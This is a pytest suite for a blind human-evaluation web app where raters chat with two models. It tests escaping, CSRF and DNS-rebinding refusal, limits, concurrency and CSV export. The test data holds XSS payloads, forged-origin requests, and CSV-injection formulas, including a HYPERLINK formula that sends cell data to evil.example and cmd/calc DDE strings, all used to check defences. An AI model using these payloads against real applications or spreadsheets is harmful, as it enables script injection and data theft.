"""The human-evaluation app: a full rater session and an annotation in headless Chromium
(Playwright on Debian's chromium), escaping, blindness, limits, concurrency and export."""

import html
import json
import os
import re
import shutil
import sqlite3
import threading
import time
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import httpx
import pytest
from click.testing import CliRunner

from conftest import ROOT
from ixmcts.errors import IxmctsError
from ixmcts.human import report
from ixmcts.human.app import Limits, Study, create_app
from ixmcts.human.store import Store
from ixmcts.human.study import StudyParams, build_study, check_bind
from ixmcts.llm.models import ModelSpec

CHROMIUM = os.environ.get("IXMCTS_CHROMIUM", "/usr/bin/chromium")
ARTIFACTS = Path(os.environ.get("IXMCTS_TEST_ARTIFACTS", ROOT / "test-artifacts"))
ARMS = {"SFT": "run-sft-7f3a", "Aligned": "run-aligned-91bc"}  # must never reach a page
ORIGIN = "http://127.0.0.1"  # the test client's address: its forms come from the app's own pages
PAIRS = [{"scenario": "esc", "context": [{"role": "system", "content": "You are a supporter."},
                                         {"role": "user", "content": f"I failed exam number {i}."}],
          "chosen": f"That sounds hard. What happened in exam {i}?", "rejected": f"Exams {i} are fine.",
          "chosen_value": 0.8, "rejected_value": 0.2} for i in range(3)]


class Server:
    """The app under uvicorn on a free loopback port, in a background thread."""

    def __init__(self, app):
        import uvicorn

        self.server = uvicorn.Server(uvicorn.Config(app, host="127.0.0.1", port=0, log_level="warning"))
        self.thread = threading.Thread(target=self.server.run, daemon=True)

    def __enter__(self) -> str:
        self.thread.start()
        deadline = time.time() + 30
        while not self.server.started:
            assert time.time() < deadline and self.thread.is_alive(), "the server did not start"
            time.sleep(0.02)
        return f"http://127.0.0.1:{self.server.servers[0].sockets[0].getsockname()[1]}"

    def __exit__(self, *exc):
        self.server.should_exit = True
        self.thread.join(10)


class Echo:
    """A scripted model: fast and deterministic, for tests about storage and the HTTP layer."""

    def __init__(self, name):
        self.name = name

    def reply(self, problem, history, seed):
        return f"I hear you: {history[-1].text}", f"raw {self.name}"


@pytest.fixture(scope="module")
def tiny_study(tmp_path_factory, tiny_model):
    params = StudyParams(db=str(tmp_path_factory.mktemp("human") / "study.db"), max_new_tokens=12, max_exchanges=3)
    return build_study(params, {name: (run_id, ModelSpec("tiny")) for name, run_id in ARMS.items()}, PAIRS,
                       pairs_source="test")


def echo_study(path, **limits) -> Study:
    store = Store(path)
    store.set_arms([(name, run_id, "echo") for name, run_id in ARMS.items()])
    store.add_pairs(PAIRS)
    from ixmcts.data import load_conditions

    return Study(store=store, problems=load_conditions("esc", "sample", 3), limits=Limits(**limits),
                 responders={name: Echo(name) for name in ARMS})


@pytest.fixture()
def client(tmp_path):
    from fastapi.testclient import TestClient

    study = echo_study(tmp_path / "study.db", max_body_bytes=4096, max_message_chars=200, max_exchanges=2)
    return TestClient(create_app(study), base_url=ORIGIN, headers={"origin": ORIGIN}), study


def start_session(c, name="Ada") -> str:
    r = c.post("/rate", data={"name": name, "consent": "yes"}, follow_redirects=False)
    assert r.status_code == 303, r.text
    return r.headers["location"].split("/")[2]


def pair_on(page: str) -> str:
    """The id of the pair an annotation page asks about."""
    return re.search(r'action="/a/[^/]+/([0-9a-f]+)"', page).group(1)


RATING = {"a_supportiveness": "7", "a_willingness": "8", "b_supportiveness": "4", "b_willingness": "5"}


# the browser -------------------------------------------------------------------------

@pytest.fixture(scope="module")
def browser():
    if not Path(CHROMIUM).exists():
        if os.environ.get("IXMCTS_REQUIRE_BROWSER") == "1":
            pytest.fail(f"{CHROMIUM} is missing: install Debian's chromium (apt-get install chromium); .ci/run does")
        pytest.skip(f"no Chromium at {CHROMIUM} (apt-get install chromium; CI installs it and requires these tests)")
    from playwright.sync_api import sync_playwright

    with sync_playwright() as p:
        b = p.chromium.launch(executable_path=CHROMIUM, args=[
            "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking",
            "--disable-component-update", "--disable-sync"])
        yield b
        b.close()


def test_a_full_rater_session_and_an_annotation_in_chromium(browser, tiny_study):
    """Consent, two turns with each blind model, ratings; then one pair labelled — all in the database."""
    seen = []
    with Server(create_app(tiny_study)) as url:
        page = browser.new_page()
        page.on("load", lambda p: seen.append(p.content()))
        page.goto(url + "/")
        page.click("#start-rating")
        assert "two AI assistants" in page.inner_text("#consent-note")
        page.fill("#name", "Rater One")
        page.check("#consent")
        page.click("#start")
        token = page.url.split("/")[4]
        problem = page.inner_text("#problem")
        for slot in ("A", "B"):
            assert page.url.endswith(f"/chat/{slot}")
            assert page.inner_text("h1").startswith(f"Model {slot}")
            assert page.inner_text("#problem") == problem  # the same problem for both models
            for message in ("I have been feeling low since my exams.", "I do not know who to talk to."):
                page.fill("#message", message)
                page.click("#send")
                turns = page.locator(".turn")
                assert turns.last.get_attribute("class") == "turn model" and turns.last.inner_text().strip()
                assert message in page.inner_text("#chat")
            assert page.locator(".turn.user").count() == 2 and page.locator(".turn.model").count() == 2
            page.click("#continue")
        assert page.url.endswith("/rate")
        for field, value in RATING.items():
            page.select_option(f"#{field}", value)
        page.fill("#a_strengths", "asked good questions")
        page.fill("#b_weaknesses", "repeated itself")
        ARTIFACTS.mkdir(parents=True, exist_ok=True)
        shot = ARTIFACTS / "rating-page.png"
        page.screenshot(path=str(shot), full_page=True)
        assert shot.stat().st_size > 10_000
        page.click("#submit-ratings")
        assert page.inner_text("#rater-name") == "Rater One"

        page.goto(url + "/annotate")
        page.fill("#annotator-name", "Annotator One")
        page.click("#start-annotation")
        assert "I failed exam number" in page.inner_text("#context")
        assert "You are a supporter" not in page.content()  # the system prompt is not context for people
        pair_text = page.inner_text("#a1") + page.inner_text("#a2")
        page.click("#label-a2")
        page.close()

    with sqlite3.connect(tiny_study.store.path) as db:
        db.row_factory = sqlite3.Row
        session = db.execute("SELECT * FROM sessions WHERE id = ?", (token,)).fetchone()
        assert {session["arm_a"], session["arm_b"]} == set(ARMS)
        assert db.execute("SELECT name FROM raters WHERE id = ?", (session["rater_id"],)).fetchone()[0] == "Rater One"
        turns = db.execute("SELECT slot, role, text FROM turns WHERE session_id = ? ORDER BY slot, idx", (token,)).fetchall()
        assert [(t["slot"], t["role"]) for t in turns] == [(s, r) for s in "AB" for r in ("user", "model") * 2]
        ratings = {r["slot"]: r for r in db.execute("SELECT * FROM ratings WHERE session_id = ?", (token,))}
        assert (ratings["A"]["supportiveness"], ratings["A"]["willingness"], ratings["A"]["strengths"]) == (7, 8, "asked good questions")
        assert (ratings["B"]["supportiveness"], ratings["B"]["willingness"], ratings["B"]["weaknesses"]) == (4, 5, "repeated itself")
        assert ratings["A"]["arm"] == session["arm_a"] and ratings["A"]["run_id"] == ARMS[session["arm_a"]]
        label = db.execute("SELECT a.label, p.a2 FROM annotations a JOIN pairs p ON p.id = a.pair_id").fetchall()
        assert [tuple(x) for x in label] == [("a2", label[0]["a2"])] and label[0]["a2"].strip() in pair_text
    for html in seen:  # blind: no page ever named a model or its run
        assert not any(s in html for s in [*ARMS, *ARMS.values(), "tiny"]), html


def test_a_script_in_a_chat_message_or_a_name_renders_as_text(browser, tmp_path):
    attack = "<script>document.title='owned'</script><img src=x onerror=\"document.title='owned'\">"
    name = "<img src=x onerror=\"document.title='owned'\"><script>1</script>"  # within the 80-character limit
    with Server(create_app(echo_study(tmp_path / "study.db"))) as url:
        page = browser.new_page()
        page.goto(url + "/rate")
        page.fill("#name", name)
        page.check("#consent")
        page.click("#start")
        page.fill("#message", attack)
        page.click("#send")
        assert page.locator(".turn.user .text").inner_text() == attack  # shown as the characters typed
        assert attack in page.locator(".turn.model .text").inner_text()  # the model's echo too
        assert page.locator("#chat script, #chat img").count() == 0
        assert page.title() != "owned"
        token = page.url.split("/")[4]
        for slot in ("A", "B"):
            httpx.post(f"{url}/s/{token}/chat/{slot}", data={"message": "hi"}, headers={"origin": url})
        assert httpx.post(f"{url}/s/{token}/rate", data=RATING, headers={"origin": url}).status_code == 303
        page.goto(f"{url}/s/{token}/done")
        assert page.inner_text("#rater-name") == name
        assert page.locator("main script, main img").count() == 0 and page.title() != "owned"
        page.close()


def test_a_form_on_another_site_cannot_post_to_the_app_from_chromium(browser, tmp_path):
    """CSRF in a real browser: a page on evil.example (served by Playwright's router, no network)
    auto-submits forms to the study; Chromium sends its Origin and the app refuses them all."""
    study = echo_study(tmp_path / "study.db")
    with Server(create_app(study)) as url:
        forms = "".join(f'<form method="post" action="{url}{path}" id="f{i}">{fields}<button id="b{i}">go</button></form>'
                        for i, (path, fields) in enumerate([
                            ("/rate", '<input name="name" value="Mallory"><input name="consent" value="yes">'),
                            ("/annotate", '<input name="name" value="Mallory">')]))
        page = browser.new_page()
        page.route("http://evil.example/**", lambda route: route.fulfill(content_type="text/html", body=f"<html><body>{forms}</body></html>"))
        for i in range(2):
            page.goto("http://evil.example/")
            with page.expect_navigation():
                page.click(f"#b{i}")
            assert "cross-origin request refused: http://evil.example is not this app" in page.inner_text("#error")
        page.close()
    assert study.store.counts()["sessions"] == 0
    with sqlite3.connect(study.store.path) as db:
        assert db.execute("SELECT COUNT(*) FROM raters").fetchone()[0] == 0


# the HTTP layer ---------------------------------------------------------------------

def test_pages_never_name_the_models_and_forbid_scripts(client):
    c, _ = client
    token = start_session(c)
    pages = [c.get("/"), c.get("/rate")]
    for slot in ("A", "B"):
        c.post(f"/s/{token}/chat/{slot}", data={"message": "hello"})
        pages.append(c.get(f"/s/{token}/chat/{slot}"))
    pages.append(c.get(f"/s/{token}/rate"))
    pages.append(c.post(f"/s/{token}/rate", data=RATING))
    r = c.post("/annotate", data={"name": "x"})
    pages.append(r)
    for r in pages:
        assert r.status_code == 200
        assert "script-src" not in r.headers["content-security-policy"] and "default-src 'none'" in r.headers["content-security-policy"]
        assert not any(s in r.text for s in [*ARMS, *ARMS.values(), "raw SFT", "raw Aligned"])
        assert "<script" not in r.text


def test_bad_requests_get_clear_errors_and_store_nothing(client):
    c, study = client
    token = start_session(c)
    assert c.post("/rate", data={"name": "Ada"}).status_code == 422  # no consent
    assert c.post("/rate", data={"name": " ", "consent": "yes"}).status_code == 422
    too_long = c.post(f"/s/{token}/chat/A", data={"message": "x" * 201})
    assert too_long.status_code == 422 and "longer than 200" in too_long.text
    huge = c.post(f"/s/{token}/chat/A", data={"message": "x" * 5000})
    assert huge.status_code == 413
    assert c.post(f"/s/{token}/chat/C", data={"message": "hi"}).status_code == 404
    assert c.post("/s/nope/chat/A", data={"message": "hi"}).status_code == 404
    assert c.get(f"/s/{token}/rate").status_code == 409  # no chat yet
    for _ in range(2):
        assert c.post(f"/s/{token}/chat/A", data={"message": "hi"}).status_code == 200
    capped = c.post(f"/s/{token}/chat/A", data={"message": "one more"})
    assert capped.status_code == 409 and "2 messages" in capped.text
    c.post(f"/s/{token}/chat/B", data={"message": "hi"})
    assert c.post(f"/s/{token}/rate", data={**RATING, "a_willingness": "11"}).status_code == 422
    assert c.post(f"/s/{token}/rate", data={**RATING, "a_willingness": "seven"}).status_code == 422
    assert study.store.counts()["ratings"] == 0
    assert c.post(f"/s/{token}/rate", data=RATING).status_code == 200
    again = c.post(f"/s/{token}/rate", data=RATING)
    assert again.status_code == 409 and "already been rated" in again.text
    assert study.store.counts()["ratings"] == 2 and study.store.counts()["turns"] == 6
    annotator = c.post("/annotate", data={"name": "x"}, follow_redirects=False).headers["location"]
    pid = pair_on(c.get(annotator).text)
    assert c.post(f"{annotator}/{pid}", data={"label": "maybe"}).status_code == 422
    assert c.post(f"{annotator}/{pid}", data={"label": "a1"}).status_code == 200
    assert c.post(f"{annotator}/{pid}", data={"label": "a2"}).status_code == 409
    assert study.store.counts()["annotations"] == 1


def test_annotators_see_each_pair_once_with_the_same_order(client):
    c, study = client
    firsts = []
    for name in ("one", "two"):
        a = c.post("/annotate", data={"name": name}, follow_redirects=False).headers["location"]
        labelled = []
        while "all-done" not in (page := c.get(a).text):
            pid = pair_on(page)
            labelled.append((pid, re.search(r'id="a1"><h2>a1</h2><p class="text">(.*?)</p>', page, re.S).group(1)))
            c.post(f"{a}/{pid}", data={"label": "tie"})
        assert len({pid for pid, _ in labelled}) == len(PAIRS) == len(labelled)
        firsts.append(labelled)
    assert firsts[0] == firsts[1]  # the same pairs in the same order, with the same a1
    assert study.store.counts()["annotations"] == 2 * len(PAIRS)


def test_200_ratings_from_20_concurrent_clients_are_all_stored(tmp_path):
    study = echo_study(tmp_path / "study.db")

    def rater(i: int) -> int:
        stored = 0
        with httpx.Client(base_url=url, follow_redirects=False, timeout=60, headers={"origin": url}) as c:
            for j in range(10):
                token = start_session(c, name=f"rater {i}")
                for slot in ("A", "B"):
                    assert c.post(f"/s/{token}/chat/{slot}", data={"message": f"{i}/{j}"}).status_code == 303
                r = c.post(f"/s/{token}/rate", data={**RATING, "a_supportiveness": str(1 + (i + j) % 10)})
                stored += r.status_code == 303
        return stored

    with Server(create_app(study)) as url, ThreadPoolExecutor(20) as pool:
        accepted = sum(pool.map(rater, range(20)))
    assert accepted == 200
    with sqlite3.connect(study.store.path) as db:
        assert db.execute("SELECT COUNT(DISTINCT session_id), COUNT(*) FROM ratings").fetchone() == (200, 400)
        sup = sorted(r[0] for r in db.execute("SELECT supportiveness FROM ratings WHERE slot = 'A'"))
    assert sup == sorted(1 + (i + j) % 10 for i in range(20) for j in range(10))
    assert study.store.counts()["turns"] == 800


def test_export_feeds_the_report_with_the_imcts_ranking_as_a_rater(client, tmp_path):
    c, study = client
    for n in range(4):
        token = start_session(c, name=f"r{n}")
        for slot in ("A", "B"):
            c.post(f"/s/{token}/chat/{slot}", data={"message": "hi"})
        c.post(f"/s/{token}/rate", data=RATING)
    for name, label in (("one", "a1"), ("two", "a2")):
        a = c.post("/annotate", data={"name": name}, follow_redirects=False).headers["location"]
        while "all-done" not in (page := c.get(a).text):
            c.post(f"{a}/{pair_on(page)}", data={"label": label})
    files = study.store.export(tmp_path / "out")
    ratings = report.read_ratings(files["ratings"])
    assert len(ratings) == 8 and {r["model"] for r in ratings} == set(ARMS)
    assert {r["run_id"] for r in ratings} == set(ARMS.values())
    rows = {r["model"]: r for r in report.table5(ratings)}
    assert rows["SFT"]["n"] == rows["Aligned"]["n"] == 4
    labels = report.read_csv(files["annotations"], ("pair_id", "annotator", "label"))
    annotators = {r["annotator"] for r in labels}
    assert len(annotators) == 3 and "imcts" in annotators
    imcts = {r["pair_id"]: r["label"] for r in labels if r["annotator"] == "imcts"}
    with sqlite3.connect(study.store.path) as db:
        for pid, a1 in db.execute("SELECT id, a1 FROM pairs"):
            pair = next(p for p in PAIRS if a1 in (p["chosen"], p["rejected"]))
            assert imcts[pid] == ("a1" if a1 == pair["chosen"] else "a2")  # the higher-valued response
    kappa, items = report.annotation_kappa(labels, with_imcts=False)
    assert items == len(PAIRS) and kappa < 0  # one annotator always a1, the other always a2
    result = CliRunner().invoke(__import__("ixmcts.cli", fromlist=["main"]).main,
                                ["human-eval", "report", "--ratings", str(files["ratings"]), "--annotations",
                                 str(files["annotations"]), "--output-dir", str(tmp_path / "report")])
    assert result.exit_code == 0, result.output
    assert (tmp_path / "report" / "table5.md").is_file() and (tmp_path / "report" / "figure3.png").is_file()


def test_the_database_keeps_its_models(tmp_path):
    store = Store(tmp_path / "s.db")
    store.set_arms([("SFT", "run-1", "m"), ("Aligned", "run-2", "m")])
    store.set_arms([("SFT", "run-1", "m"), ("Aligned", "run-2", "m")])  # reopening the study is fine
    with pytest.raises(IxmctsError, match="rated other models"):
        store.set_arms([("SFT", "run-1", "m"), ("Aligned", "run-3", "m")])


@pytest.mark.parametrize("host, allowed", [("127.0.0.1", True), ("localhost", True), ("::1", True),
                                           ("0.0.0.0", False), ("192.168.1.5", False), ("example.org", False)])
def test_the_app_binds_beyond_localhost_only_when_told(host, allowed):
    if allowed:
        check_bind(host, allow_remote=False)
    else:
        with pytest.raises(IxmctsError, match="allow_remote"):
            check_bind(host, allow_remote=False)
        check_bind(host, allow_remote=True)


def test_serve_refuses_a_public_address_before_loading_models(tmp_path):
    from ixmcts.cli import main

    db = tmp_path / "s.db"
    result = CliRunner().invoke(main, ["human-eval", "serve", "--model-a", "no-such-model", "--model-b", "other",
                                       "--host", "0.0.0.0", "--db", str(db)])
    assert result.exit_code == 2 and "refusing to serve on 0.0.0.0" in result.output
    assert not db.exists()
    result = CliRunner().invoke(main, ["human-eval", "serve", "--model-a", "m", "--model-b", "n", "--max-exchanges", "0"])
    assert result.exit_code == 2 and "max_exchanges must be at least 1" in result.output


def test_export_command_writes_the_csv_files(client, tmp_path):
    from ixmcts.cli import main

    c, study = client
    token = start_session(c)
    for slot in ("A", "B"):
        c.post(f"/s/{token}/chat/{slot}", data={"message": "hi"})
    c.post(f"/s/{token}/rate", data=RATING)
    result = CliRunner().invoke(main, ["human-eval", "export", "--db", str(study.store.path), "--output-dir", str(tmp_path / "x")])
    assert result.exit_code == 0, result.output
    assert len((tmp_path / "x" / "ratings.csv").read_text().splitlines()) == 3
    missing = CliRunner().invoke(main, ["human-eval", "export", "--db", str(tmp_path / "none.db")])
    assert missing.exit_code == 2 and "no such database" in missing.output
    shutil.rmtree(tmp_path / "x")


# the rules under pressure (issue 18) ---------------------------------------------------

def test_a_rating_without_both_chats_is_refused_and_not_stored(client):
    """The rating form needs both chats; so does a rating POSTed without the form."""
    c, study = client
    token = start_session(c)
    none = c.post(f"/s/{token}/rate", data=RATING)
    assert none.status_code == 409 and "chat with Model A and B first" in none.text
    c.post(f"/s/{token}/chat/A", data={"message": "hi"})
    only_a = c.post(f"/s/{token}/rate", data=RATING)
    assert only_a.status_code == 409 and "chat with Model B first" in only_a.text
    assert study.store.counts()["ratings"] == 0 and not study.store.rated(token)


class SlowEcho(Echo):
    """An echo that takes a while, so that requests overlap; counts what it was asked."""

    def __init__(self, name):
        super().__init__(name)
        self.calls, self.lock = 0, threading.Lock()

    def reply(self, problem, history, seed):
        with self.lock:
            self.calls += 1
        time.sleep(0.3)
        return super().reply(problem, history, seed)


def test_concurrent_messages_never_exceed_the_limit_nor_pay_for_refused_ones(tmp_path):
    study = echo_study(tmp_path / "study.db", max_exchanges=3)
    study.responders = {name: SlowEcho(name) for name in ARMS}
    with Server(create_app(study)) as url:
        with httpx.Client(base_url=url, headers={"origin": url}) as c:
            token = start_session(c)

        def send(i: int) -> int:
            with httpx.Client(base_url=url, headers={"origin": url}, timeout=60) as c:
                return c.post(f"/s/{token}/chat/A", data={"message": f"message {i}"}).status_code

        with ThreadPoolExecutor(8) as pool:
            codes = sorted(pool.map(send, range(8)))
    assert codes == [303] * 3 + [409] * 5
    turns = study.store.turns(token, "A")
    assert [t["role"] for t in turns] == ["user", "model"] * 3
    assert sum(r.calls for r in study.responders.values()) == 3  # refused messages cost no generation


class Failing(Echo):
    def reply(self, problem, history, seed):
        raise RuntimeError("the model fell over")


def test_a_failed_generation_gives_its_slot_back(tmp_path):
    from fastapi.testclient import TestClient

    study = echo_study(tmp_path / "study.db", max_exchanges=1)
    working = study.responders
    study.responders = {name: Failing(name) for name in ARMS}
    c = TestClient(create_app(study), base_url=ORIGIN, headers={"origin": ORIGIN}, raise_server_exceptions=False)
    token = start_session(c)
    assert c.post(f"/s/{token}/chat/A", data={"message": "hi"}).status_code == 500
    assert study.store.turns(token, "A") == []
    study.responders.update(working)
    assert c.post(f"/s/{token}/chat/A", data={"message": "hi again"}).status_code == 200  # the one message is still there
    assert [t["text"] for t in study.store.turns(token, "A")][0] == "hi again"


EVIL = "http://evil.example"


@pytest.mark.parametrize("headers", [{"origin": EVIL}, {"origin": "null"}, {"referer": EVIL + "/rate"},
                                     {"origin": "http://127.0.0.1.evil.example"}, {"origin": "http://127.0.0.1:9"},
                                     {}],
                         ids=["evil-origin", "null-origin", "evil-referer", "lookalike", "other-port", "neither"])
def test_cross_origin_state_changes_are_refused_and_store_nothing(tmp_path, headers):
    from fastapi.testclient import TestClient

    study = echo_study(tmp_path / "study.db")
    own = TestClient(create_app(study), base_url=ORIGIN, headers={"origin": ORIGIN})
    token = start_session(own)
    own.post(f"/s/{token}/chat/A", data={"message": "hi"})
    own.post(f"/s/{token}/chat/B", data={"message": "hi"})
    before = study.store.counts()
    forged = TestClient(create_app(study), base_url=ORIGIN, headers=headers)
    for path, data in (("/rate", {"name": "Mallory", "consent": "yes"}), (f"/s/{token}/chat/A", {"message": "x"}),
                       (f"/s/{token}/rate", RATING), ("/annotate", {"name": "Mallory"})):
        r = forged.post(path, data=data, follow_redirects=False)
        assert r.status_code == 403 and "cross-origin request refused" in r.text, (path, r.status_code, r.text)
    assert study.store.counts() == before
    with sqlite3.connect(study.store.path) as db:
        assert db.execute("SELECT COUNT(*) FROM raters WHERE name = 'Mallory'").fetchone()[0] == 0
    # the app's own pages, by Origin or (a browser that sends none) by Referer, are accepted
    assert own.post(f"/s/{token}/rate", data=RATING).status_code == 200
    by_referer = TestClient(create_app(study), base_url=ORIGIN, headers={"referer": ORIGIN + "/annotate"})
    assert by_referer.post("/annotate", data={"name": "Ann"}, follow_redirects=False).status_code == 303


@pytest.mark.parametrize("host", ["evil.example", "evil.example:8000", "127.0.0.1.nip.io", "192.168.1.5"])
def test_a_host_other_than_the_bound_address_is_refused(tmp_path, host):
    """DNS rebinding: a page on evil.example whose name now resolves to 127.0.0.1 reaches the
    app with ``Host: evil.example``: nothing is served to it, nothing is stored from it."""
    from fastapi.testclient import TestClient

    study = echo_study(tmp_path / "study.db")
    rebound = TestClient(create_app(study), base_url=f"http://{host}", headers={"origin": f"http://{host}"})
    for r in (rebound.get("/"), rebound.get("/rate"), rebound.post("/rate", data={"name": "Mallory", "consent": "yes"})):
        assert r.status_code == 400 and f"Host {host} is not this server's address" in html.unescape(r.text)
        assert "Model" not in r.text and "consent" not in r.text.lower()
    assert study.store.counts()["sessions"] == 0
    for own in ("127.0.0.1:8000", "localhost:8000", "[::1]:8000"):
        assert TestClient(create_app(study), base_url=f"http://{own}").get("/rate").status_code == 200
    study.allowed_hosts = None  # allow_remote: the operator's proxy decides who may reach it
    anywhere = TestClient(create_app(study), base_url=f"http://{host}", headers={"origin": f"http://{host}"})
    assert anywhere.post("/rate", data={"name": "Remote", "consent": "yes"}, follow_redirects=False).status_code == 303
    assert anywhere.post("/annotate", data={"name": "x"}, headers={"origin": "http://other.example"}).status_code == 403  # same-origin only


def test_study_params_decide_the_allowed_hosts():
    from ixmcts.human.study import allowed_hosts

    assert allowed_hosts(StudyParams()) == {"127.0.0.1", "localhost", "::1"}
    assert allowed_hosts(StudyParams(host="::1")) == {"127.0.0.1", "localhost", "::1"}
    assert allowed_hosts(StudyParams(host="0.0.0.0", allow_remote=True)) is None


FORMULAS = ["=HYPERLINK(\"http://evil.example?\"&A1,\"click\")", "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]
HIDDEN = ["\t=1+1", "\r=1+1"]  # the form trims these; a database written otherwise may hold them


def test_csv_exports_neutralise_formulas_and_keep_the_raw_text_elsewhere(client, tmp_path):
    """OWASP CSV injection: a cell that starts with = + - @ tab or CR is prefixed with ' in
    the CSV files; the database and conversations.jsonl keep what the rater typed."""
    import csv

    c, study = client
    for formula in FORMULAS:
        token = start_session(c, name="r")
        for slot in ("A", "B"):
            c.post(f"/s/{token}/chat/{slot}", data={"message": formula})
        assert c.post(f"/s/{token}/rate", data={**RATING, "a_strengths": formula, "b_weaknesses": formula}).status_code == 200
    token = start_session(c, name="r")
    for slot in ("A", "B"):
        c.post(f"/s/{token}/chat/{slot}", data={"message": "hi"})
    study.store.rate(token, {slot: {"supportiveness": 5, "willingness": 5, "strengths": HIDDEN[0], "weaknesses": HIDDEN[1]}
                             for slot in ("A", "B")})
    files = study.store.export(tmp_path / "out")
    with open(files["ratings"], newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    written = [r["strengths"] for r in rows if r["slot"] == "A"] + [r["weaknesses"] for r in rows if r["slot"] == "B"]
    assert sorted(written) == sorted(["'" + f for f in FORMULAS] * 2 + ["'" + HIDDEN[0], "'" + HIDDEN[1]])
    for row in rows:
        for value in row.values():
            assert not value or value[0] not in "=+-@\t\r", row
    with sqlite3.connect(study.store.path) as db:
        assert sorted(r[0] for r in db.execute("SELECT strengths FROM ratings WHERE slot = 'A'")) == sorted(FORMULAS + HIDDEN[:1])
    conversations = files["conversations"].read_text(encoding="utf-8")
    assert all(json.dumps(f)[1:-1] in conversations for f in FORMULAS)  # the chat messages, as typed
    assert len(report.read_ratings(files["ratings"])) == 2 * (len(FORMULAS) + 1)  # the report still reads it
